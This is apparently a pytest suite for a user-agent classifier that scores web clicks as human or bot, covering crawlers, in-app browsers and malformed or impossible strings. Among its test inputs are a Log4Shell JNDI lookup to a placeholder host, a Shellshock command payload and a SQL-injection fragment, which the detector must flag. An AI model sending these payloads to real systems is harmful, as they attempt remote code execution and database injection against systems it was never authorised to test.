"""What one user agent says: robots by kind, apps, phones with odd names, strings that cannot be."""

from __future__ import annotations

import pytest
import ua_parser
from crawlerdetect.providers import crawlers as crawlerdetect

from bench import corpora
from stackfluence.click import bot_score
from stackfluence.click.rules import lists
from stackfluence.click.rules.device import families
from stackfluence.click.rules.frames import dissect
from stackfluence.click.rules.patterns import Patterns, Tables, in_python, without_surroundings
from stackfluence.reasons import FLAGGED
from stackfluence.vocabulary import DeviceClass, TrafficReason

R = TrafficReason
WEBKIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
WEBVIEW = "Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36"
WINDOWS = f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {WEBKIT}"
CHROME = f"{WINDOWS} Chrome/140.0.0.0 Safari/537.36"
IPHONE = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"


def android(device: str, rest: str = "Chrome/124.0.0.0 Mobile Safari/537.36") -> str:
    return f"Mozilla/5.0 (Linux; Android 13; {device}) {WEBKIT} {rest}"


def read(user_agent: str) -> bot_score.Reading:
    return bot_score.read([("User-Agent", user_agent)], has_headers=False)


def reasons(user_agent: str) -> set[TrafficReason]:
    return set(read(user_agent).reasons)


def score(user_agent: str) -> int:
    return bot_score.combine(read(user_agent).reasons).score


@pytest.mark.parametrize(
    ("user_agent", "kind"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", R.declared_bot),
        ("Mozilla/5.0 (compatible; Invented-Crawler/1.0; +https://brand.example/bot)", R.declared_bot),
        (f"{WINDOWS} Chrome/140.0.0.0 Safari/537.36 (compatible; InventedSpider/3)", R.declared_bot),
        ("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", R.link_preview),
        ("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)", R.link_preview),
        ("Twitterbot/1.0", R.link_preview),
        ("WhatsApp/2.24.1.78 A", R.link_preview),
        ("Mozilla/5.0 (compatible; Discordbot/2.0; +https://discordapp.com)", R.link_preview),
        ("TelegramBot (like TwitterBot)", R.link_preview),
        ("Mastodon/4.2.8 (http.rb/5.1.1; +https://brand.example/)", R.link_preview),
        (
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11_1) AppleWebKit/601.2.4 (KHTML, like Gecko) Version/9.0.1 "
            "Safari/601.2.4 facebookexternalhit/1.1 Facebot Twitterbot/1.0",  # what iMessage sends
            R.link_preview,
        ),
        (f"Mozilla/5.0 {WEBKIT}; compatible; GPTBot/1.2; +https://openai.com/gptbot)", R.ai_agent),
        (f"Mozilla/5.0 {WEBKIT}; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", R.ai_agent),
        ("Barracuda Sentinel (EE)", R.mail_scanner),
        ("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", R.uptime_monitor),
        ("Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)", R.uptime_monitor),
        ("kube-probe/1.29", R.uptime_monitor),
        ("curl/8.5.0", R.http_library),
        ("python-requests/2.31.0", R.http_library),
        ("Go-http-client/1.1", R.http_library),
        ("Dalvik/2.1.0 (Linux; U; Android 13; Phone X Build/TP1A)", R.http_library),
        (f"Mozilla/5.0 (X11; Linux x86_64) {WEBKIT} HeadlessChrome/140.0.0.0 Safari/537.36", R.headless_browser),
        ("${jndi:ldap://brand.example/a}", R.attack),
        ("() { :; }; /bin/sh -c id", R.attack),
        ("' or 1=1 --", R.attack),
    ],
)
def test_a_robot_that_names_itself_is_told_by_its_kind(user_agent: str, kind: TrafficReason) -> None:
    assert kind in reasons(user_agent)
    assert score(user_agent) >= 80


@pytest.mark.parametrize("name", ["dotSemantic/1.0", "Cloudinary/1.0", "ExoRank"])
def test_a_name_that_only_one_published_list_has_is_enough(name: str) -> None:
    assert reasons(CHROME.replace("x64)", f"x64; {name})")) == {R.listed_pattern}


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1; Trident/7.0; Microsoft Outlook 16.0.1; MSOffice 16)",
        f"{CHROME} Seznam.cz/10.4.4",
        "Mozilla/5.0 (X11; Linux x86_64; openSUSE 13.1 (Bottle)) Gecko/20100101 Firefox/140.0",
        "Lynx/2.8.9rel.1 libwww-FM/2.14",
    ],
)
def test_peoples_programs_are_not_robots_though_a_list_names_them(user_agent: str) -> None:
    assert reasons(user_agent) == set()


def test_what_is_left_out_of_a_published_list_is_in_it() -> None:
    published = set(crawlerdetect.data)
    assert published >= lists.OF_PEOPLE
    assert len(published) > 1_000


@pytest.mark.parametrize("user_agent", ["", " ", "-"])
def test_nothing_is_no_user_agent(user_agent: str) -> None:
    assert R.no_user_agent in reasons(user_agent)


def test_a_request_without_the_header_has_no_user_agent() -> None:
    assert R.no_user_agent in bot_score.read([("Host", "brand.example")], has_headers=False).reasons


@pytest.mark.parametrize(
    ("user_agent", "app"),
    [
        (f"{IPHONE} Mobile/15E148 Instagram 330.0.0.30.92 (iPhone14,5; iOS 17_5; en_US; en; scale=3.00)", "instagram"),
        (f"{IPHONE} Mobile/15E148 [FBAN/FBIOS;FBAV/460.0.0.31.103;FBDV/iPhone14,5;FBCR/Bot Mobile]", "facebook"),
        (android("SM-A1 Build/TP1A; wv", f"{WEBVIEW} [FB_IAB/FB4A;FBAV/460.0;]"), "facebook"),
        (android("SM-A1 Build/TP1A; wv", f"{WEBVIEW} [FB_IAB/Orca-Android;FBAV/4;]"), "messenger"),
        (f"{IPHONE} Mobile/15E148 Barcelona 340.0.0.21.109 (iPhone14,5; iOS 17_5; en_US; en; scale=3.00)", "threads"),
        (f"{IPHONE} Mobile/15E148 musical_ly_34.4.0 JsSdk/2.0 NetType/WIFI BytedanceWebview/d8a21c6", "tiktok"),
        (f"{IPHONE} Mobile/15E148 Snapchat/12.90.0.36 (like Safari/8617.2.4, panda)", "snapchat"),
        (f"{IPHONE} Mobile/15E148 [Pinterest/iOS]", "pinterest"),
        (f"{IPHONE} Mobile/15E148 [LinkedInApp]/9.29.8962", "linkedin"),
        (f"{IPHONE} Mobile/15E148 Twitter for iPhone/10.43", "twitter"),
        (f"{IPHONE} Mobile/15E148 MicroMessenger/8.0.49(0x1800312a) NetType/WIFI Language/en", "wechat"),
        (f"{IPHONE} Mobile/15E148 Safari Line/14.9.0", "line"),
        (f"{IPHONE} Mobile/15E148 KAKAOTALK 10.8.2", "kakaotalk"),
        (f"{IPHONE} Mobile/15E148 Telegram-iOS/11.2", "telegram"),
        (android("Phone X", f"{WEBVIEW} Telegram-Android/11.4.2 (Phone X; Android 14; SDK 34; HIGH)"), "telegram"),
        (f"{IPHONE} Mobile/15E148 Reddit/Version 2024.40.0/Build 1/iOS Version 17.5", "reddit"),
        (android("Phone X; wv", f"{WEBVIEW} com.google.android.youtube/19.40"), "youtube"),
        (f"{IPHONE} GSA/317.0.634488990 Mobile/15E148 Safari/604.1", "google"),
        (f"{IPHONE} Mobile/15E148", "ios_webview"),
        (android("Phone X Build/TP1A; wv", WEBVIEW), "android_webview"),
    ],
)  # fmt: skip
def test_an_app_in_a_browsers_frame_is_recognised_and_nothing_is_held_against_it(user_agent: str, app: str) -> None:
    assert read(user_agent).in_app_browser == app
    assert read(user_agent).reasons == ()


@pytest.mark.parametrize(
    "user_agent", ["facebookexternalhit/1.1", "Snapchat/10.80 (iPhone; gzip)", "WhatsApp/2.23", CHROME]
)
def test_an_apps_name_without_a_browsers_frame_is_no_app(user_agent: str) -> None:
    assert read(user_agent).in_app_browser == ""


@pytest.mark.parametrize(
    "device",
    ["CUBOT X30", "Spider 8", "Discovery SE", "Monitor Pro 5", "M bot 60 Build/NRD90M", "Checker (2023)", "FETCH 10"],
)
def test_a_phone_may_have_any_name(device: str) -> None:
    assert reasons(android(device)) == set()


def test_a_robot_that_stands_where_the_phone_does_is_found_all_the_same() -> None:
    assert R.declared_bot in reasons(android("Phone X; compatible; Inventedbot/1.0; +https://brand.example"))


@pytest.mark.parametrize(
    "user_agent",
    [
        CHROME,
        f"{WINDOWS} Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0",
        f"{WINDOWS} Chrome/138.0.0.0 Safari/537.36 OPR/122.0.0.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 "
        "Safari/605.1.15",
        f"{IPHONE} Version/17.5 Mobile/15E148 Safari/604.1",
        f"{IPHONE} CriOS/126.0.6478.35 Mobile/15E148 Safari/604.1",
        android("K"),
        android("K", "SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36"),
        f"Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) {WEBKIT} Chrome/140.0.0.0 Safari/537.36",
        f"Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) {WEBKIT} SamsungBrowser/5.0 Chrome/94.0.4606.31 TV Safari/537.36",
        "Mozilla/5.0 (PlayStation 5/SmartTV) AppleWebKit/605.1.15 (KHTML, like Gecko)",
        "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
        "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; GWX:DOWNLOADED; .NET4.0C)",
        "Opera/9.80 (J2ME/MIDP; Opera Mini/7.1/28.3030; U; en) Presto/2.8.119 Version/11.10",
        "Nokia6230/2.0 (05.50) Profile/MIDP-2.0 Configuration/CLDC-1.1",
        "BlackBerry8520/5.0.0.681 Profile/MIDP-2.1 Configuration/CLDC-1.1 VendorID/600",
    ],
)  # fmt: skip
def test_browsers_phones_consoles_and_televisions_give_no_reason(user_agent: str) -> None:
    assert reasons(user_agent) == set()


@pytest.mark.parametrize(
    "user_agent",
    ["Invented", "Invented/1.0", "emma", "Mozilla/5.0 (compatible; Invented)", "Mozilla/5.0", "Invented Thing v2"],
)
def test_what_is_built_like_no_browser_is_flagged_without_any_list(user_agent: str) -> None:
    assert R.unlikely_user_agent in reasons(user_agent)
    assert score(user_agent) >= FLAGGED


@pytest.mark.parametrize(
    "user_agent",
    [
        f"{WINDOWS} Chrome/53.0.7149.12 Safari/537.36",  # 53 is build 2785
        f"{WINDOWS} Chrome/100.0.9999.1 Safari/537.36",
        f"{WINDOWS} Chrome/53.0.2785.1888 Safari/537.36",
        f"{IPHONE.replace('605.1.15', '537.36')} Chrome/140.0.0.0 Mobile Safari/537.36",  # on iOS it is CriOS
        f"{WINDOWS} Chrome/120.0.0.0 Safari/537.36 Edg/131.0.0.0",
        f"Mozilla/5.0 (Linux; Android 6.0; Phone X) {WEBKIT} Chrome/138.0.0.0 Mobile Safari/537.36",
        "Mozilla/9.9 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    ],
)
def test_versions_that_never_were_are_impossible(user_agent: str) -> None:
    assert R.impossible_user_agent in reasons(user_agent)
    assert score(user_agent) >= FLAGGED


@pytest.mark.parametrize("version", ["53.0.2785.124", "30.0.0.0", "138.0.7204.97", "141.0.9999.1", "999.0.1.1"])
def test_builds_that_chrome_had_or_no_longer_tells_are_possible(version: str) -> None:
    assert reasons(f"{WINDOWS} Chrome/{version} Safari/537.36") == set()
    assert reasons(f"{WINDOWS} Chrome/30.0.1599.12218 YaBrowser/13.12.1599.12218 Safari/537.36") == set()


@pytest.mark.parametrize(
    "user_agent",
    [
        "Mozilla/5.0 (Macintosh: Intel Mac OS X 10_15) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.1 Safari/6",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/ (KHTML, like Gecko) Chrome/120.0.0.0 Safari/",
        f"Mozilla/5.0 (Windows NT 10.0; %s) {WEBKIT} Chrome/120.0.0.0 Safari/537.36",
        f"Mozilla/5.0 (Windows NT 10.0; {{{{arch}}}}) {WEBKIT} Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 Gecko/20100101 Firefox/128.0",
        "Nozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        f"{CHROME} Invented",
        f"{CHROME} Invented.Reader",
        f"appName Netscape appVersion 5.0 (Linux; Android 13; K) {WEBKIT} Chrome/124.0.0.0 Mobile Safari/537.36",
    ],
)
def test_slips_that_no_browser_makes_are_flagged_without_any_list(user_agent: str) -> None:
    assert reasons(user_agent) & {R.unlikely_user_agent, R.attack}
    assert score(user_agent) >= FLAGGED


@pytest.mark.parametrize(
    "user_agent",
    [
        f"Mozilla/5.0 (iPhone; Windows NT 10.0; Win64) {WEBKIT} Version/17.5 Safari/604.1",
        "Mozilla/5.0 (X11; Linux x86_64; iPad; U) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/604.1",
        "Invented/1.0 (Windows NT 10.0; Profile/MIDP-2.0 Configuration/CLDC-1.1)",
    ],
)
def test_systems_that_never_met_are_impossible(user_agent: str) -> None:
    assert R.impossible_user_agent in reasons(user_agent)


@pytest.mark.parametrize(
    "user_agent",
    [
        "Invented 1.2 (iPhone; iPhone OS 12.1; de_DE)",  # ASIHTTPRequest's default
        "Invented/1.2 (iPhone; iOS 17.5; Scale/3.00)",  # AFNetworking's
        "Mozilla/4.0 (compatible; MSIE 6.0; MS Web Services Client Protocol 4.0.30319.42000)",  # .NET's
    ],
)
def test_apps_own_requests_are_those_of_their_libraries(user_agent: str) -> None:
    assert R.http_library in reasons(user_agent)


@pytest.mark.parametrize(
    "user_agent",
    [
        f"{WINDOWS} Chrome/120.0.6099.9 Safari/537.36 OPR/106.0.4998.19",
        f"{WINDOWS} Chrome/60.0.9999.1 Safari/537.36 InventedBrowser/60.0",  # counts its builds by itself
        "Cyberdog/2.0 (Macintosh; PPC)",
        "Mozilla/4.0 (compatible; Lotus-Notes/6.0; Windows-NT)",
        "AppleWebKit/605.1.15 (KHTML, like Gecko)",
        "[FBAN/FBIOS;FBAV/460.0.0.31.103;FBDV/iPhone14,5]",
        "Mozilla/5.0 (Linux; U; Android 4.2; zh-cn; Phone X Build/JDQ39) UCWEB/2.0 UNTRUSTED/1.0",
    ],
)
def test_rare_programs_of_people_give_no_reason(user_agent: str) -> None:
    assert reasons(user_agent) == set()


def test_a_browser_through_google_app_engine_is_flagged_but_not_certain() -> None:
    through = f"{CHROME} AppEngine-Google; (+http://code.google.com/appengine; appid: s~invented)"
    assert reasons(through) == {R.listed_pattern}
    assert score("AppEngine-Google; (+http://code.google.com/appengine; appid: s~invented)") >= 90


def test_a_broad_word_is_weighed_less_than_a_name() -> None:
    user_agent = f"{CHROME} InventedAnalyzer/1.0"
    assert reasons(user_agent) == {R.listed_pattern}
    assert FLAGGED <= score(user_agent) < 90


@pytest.mark.parametrize(
    ("user_agent", "expected"),
    [
        (CHROME, ("Chrome", "Windows", DeviceClass.desktop)),
        (android("K"), ("Chrome Mobile", "Android", DeviceClass.phone)),
        (android("SM-X200", "Chrome/124.0.0.0 Safari/537.36"), ("Chrome", "Android", DeviceClass.tablet)),
        (f"{IPHONE} Version/17.5 Mobile/15E148 Safari/604.1", ("Mobile Safari", "iOS", DeviceClass.phone)),
        (f"Mozilla/5.0 (SMART-TV; Linux; Tizen 7.0) {WEBKIT} Chrome/94.0.4606.31 TV Safari/537.36",
         ("Chrome", "Tizen", DeviceClass.television)),
        ("Invented/1.0", ("", "", DeviceClass.other)),
    ],
)  # fmt: skip
def test_browser_system_and_device_are_named(user_agent: str, expected: tuple[str, str, DeviceClass]) -> None:
    reading = read(user_agent)
    assert (reading.ua_family, reading.os_family, reading.device_class) == expected


def test_a_bare_text_keeps_all_but_the_phone() -> None:
    assert dissect(android("Spider 8 Build/TP1A.1")).bare == android("K")


def test_patterns_of_javascript_are_those_of_python() -> None:
    assert in_python(r"(?<!a|bc)d[\w\d-.]") == r"(?<!a)(?<!bc)d[\w\d\-.]"
    assert without_surroundings(r"(?<! cu)bots?(?!(?:x|y))\b") == r"bots?\b"
    patterns = Patterns([r"(?<! cu)bots?\b", "crawl"], is_folded=True)
    assert [patterns.fits(text) for text in ("A Bot", "a cubot", "Crawler", "browser")] == [True, False, True, False]


@pytest.mark.parametrize(
    "part",
    ["(", "Mozilla/5.0 (", "Chrome/1.", "[FB", "()", "; Android 4;", "MSIE 7(", "((a)", "1.", "Safari/", "\x00", "ÿ"],
)
def test_a_long_hostile_string_is_read_to_its_end(part: str) -> None:
    assert read(f"Mozilla/5.0 (Linux; Android 4; {part * 2_000}").ua_family is not None


_WEB_VIEW = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148"
)


@pytest.mark.parametrize("app", ["ChatGPT/1.2025", "Tumblr/38.0", "Bluesky/1.104", "Feedly/80.1"])
def test_a_services_app_is_a_person_and_its_robot_is_none(app: str) -> None:
    name = app.partition("/")[0]
    assert not reasons(f"{_WEB_VIEW} {app}")
    assert reasons(f"{_WEB_VIEW} (compatible; {name}Bot/1.0; +https://{name.lower()}.example/bot)")


def test_of_tables_the_first_that_fits_counts() -> None:
    tables = Tables(["preview|card", "bot"])
    assert [tables.first(text) for text in ("Bot with Preview", "CARD", "a bot", "browser")] == [0, 0, 1, None]


OF_BROWSERS = [
    CHROME,
    f"{WINDOWS} Chrome/140.0.0.0 Safari/537.36 Edg/140.0.0.0",
    f"{IPHONE} Version/17.5 Mobile/15E148 Safari/604.1",
    f"{IPHONE} CriOS/140.0.7339.39 Mobile/15E148 Safari/604.1",
    f"{IPHONE} Mobile/15E148 Twitter for iPhone",
    f"{IPHONE} Mobile/15E148 [FBAN/FBIOS;FBAV/500.0.0.1;FBBV/1;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.5]",
    android("K"),
    android("K", "SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36"),
    android("K; wv", WEBVIEW),
    android("Phone 7 Build/TP1A.1; wv", f"{WEBVIEW} [FB_IAB/FB4A;FBAV/500.0.0.1;]"),
    android("Phone 7 Build/TP1A.1; wv", f"{WEBVIEW} [Pinterest/Android]"),
    f"Mozilla/5.0 (Linux; arm_64; Android 14; K) {WEBKIT} Chrome/138.0.0.0 YaBrowser/25.8.1 SA/3 Mobile Safari/537.36",
    "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
]


@pytest.mark.parametrize("user_agent", OF_BROWSERS)
def test_a_browsers_own_words_are_asked_about_no_list(user_agent: str) -> None:
    assert dissect(user_agent).is_plain
    assert reasons(user_agent) == set()


@pytest.mark.parametrize("word", ["FooBot/1.0", "Headless/1.0", "crawl", "(compatible)", "Foo", "Chrome/x"])
def test_one_word_more_is_not_a_browsers_own(word: str) -> None:
    assert not dissect(f"{CHROME} {word}").is_plain


def table_says(user_agent: str) -> tuple[str, str]:
    found = ua_parser.parse(user_agent[:400])
    return found.user_agent.family if found.user_agent else "", found.os.family if found.os else ""


@pytest.mark.parametrize("user_agent", [*OF_BROWSERS, android("M bot 52"), android("Spider 8"), "ExampleBot/1.0", ""])
def test_families_are_those_of_the_table_asked_about_the_whole_string(user_agent: str) -> None:
    assert families(user_agent, dissect(user_agent)) == table_says(user_agent)


@pytest.mark.parametrize("name", corpora.HUMANS)
def test_families_are_those_of_the_table_for_a_corpus_of_people(name: str) -> None:
    if not corpora.DIRECTORY.is_dir():
        pytest.skip("the labelled corpora are not on this machine")
    texts = corpora.texts(corpora.DIRECTORY, name)
    some = texts[:: 1 + len(texts) // 3_000]
    assert [text for text in some if families(text, dissect(text)) != table_says(text)] == []


def test_what_is_found_in_headers_does_not_stick_to_the_user_agent() -> None:
    assert R.no_accept_language in bot_score.read([("User-Agent", CHROME)]).reasons
    assert reasons(CHROME) == set()


def test_a_monitor_in_the_frame_of_a_web_view_is_a_monitor() -> None:
    assert R.uptime_monitor in reasons(f"{_WEB_VIEW} ExampleUptime/1.0")
